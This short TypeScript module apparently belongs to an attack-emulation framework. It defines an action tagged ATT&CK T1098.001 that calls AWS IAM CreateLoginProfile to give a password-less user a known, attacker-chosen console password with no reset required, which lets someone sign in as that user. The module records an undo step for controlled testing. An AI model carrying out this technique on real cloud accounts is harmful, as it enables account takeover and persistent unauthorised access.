/** T1098.001: whoever may set passwords signs in to the console as somebody else. IAM API Reference: CreateLoginProfile; claim DEPART-03. */
import type { Action } from "../action.ts";

/** `user`: name of a user of the account that has no password yet. */
export const setConsolePassword = (user: string): Action => ({
  id: "set-console-password",
  kind: "technique",
  sentence: `set a console password for \`${user}\``,
  techniques: ["T1098.001"],
  undo: "delete the login profile",
  carryOut: (hands) =>
    hands.call("iam", "CreateLoginProfile", {
      UserName: user,
      Password: "Known-to-the-1ntruder",
      PasswordResetRequired: false,
    }),
});
